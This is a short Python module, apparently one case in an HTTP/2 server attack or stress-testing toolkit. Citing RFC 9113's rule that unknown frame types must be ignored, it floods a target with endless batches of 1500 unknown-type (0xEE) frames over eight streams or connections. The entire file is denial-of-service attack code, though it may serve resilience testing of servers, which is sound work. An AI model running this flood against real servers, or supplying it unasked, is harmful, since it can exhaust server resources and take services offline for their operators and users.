"""Frames of unknown types, which have to be ignored (RFC 9113, 4.1)."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    batch = frames.frame(0xEE) * 1500
    return await target.flood(8, frames.opening(), lambda: repeat(batch))
